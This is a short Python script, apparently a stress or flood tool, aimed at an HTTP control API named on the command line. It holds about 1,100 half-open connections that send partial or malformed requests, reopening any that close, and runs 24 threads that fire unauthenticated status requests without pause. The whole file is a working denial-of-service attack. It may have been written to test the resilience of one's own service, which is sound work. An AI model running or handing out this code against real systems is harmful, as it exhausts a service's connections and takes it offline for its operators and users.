"""A flood of a control API from this machine: idle connections, half-sent requests, and looks without a token.

Run as ``python flood.py HOST PORT``; it goes on until it is killed.
"""

from __future__ import annotations

import itertools
import resource
import select
import socket
import sys
import threading
import time
from contextlib import suppress

PARTS = (b"", b"GET /v1/status HT", b"GET /livez HTTP/1.1\r\nHost: localhost\r\nContent-Length: 9\r\n\r\n1")
LOOK = b"GET /v1/status HTTP/1.1\r\nHost: localhost\r\n\r\n"
CONNECTIONS = 1100
LOOKERS = 24


def hold(address: tuple[str, int]) -> None:
    """Keep connections open that never send a whole request; what is closed is opened again."""
    parts, open_now, poll = itertools.cycle(PARTS), {}, select.poll()
    while True:
        while len(open_now) < CONNECTIONS:
            connection = socket.socket()
            try:
                connection.settimeout(2.0)
                connection.connect(address)
                connection.sendall(next(parts))
            except OSError:
                connection.close()
                break
            open_now[connection.fileno()] = connection
            poll.register(connection, select.POLLIN)
        for number, _ in poll.poll(20):
            with suppress(OSError):
                if open_now[number].recv(65536):
                    continue
            poll.unregister(number)
            open_now.pop(number).close()


def look(address: tuple[str, int]) -> None:
    """Ask without a pause, and without a token."""
    while True:
        with suppress(OSError), socket.create_connection(address, timeout=30.0) as connection:
            while True:
                connection.sendall(LOOK)
                if not connection.recv(65536):
                    break


if __name__ == "__main__":
    target = (sys.argv[1], int(sys.argv[2]))
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4096), hard))
    for _ in range(LOOKERS):
        threading.Thread(target=look, args=(target,), daemon=True).start()
    threading.Thread(target=hold, args=(target,), daemon=True).start()
    time.sleep(3.0)
    print("flooding", flush=True)
    time.sleep(3600)
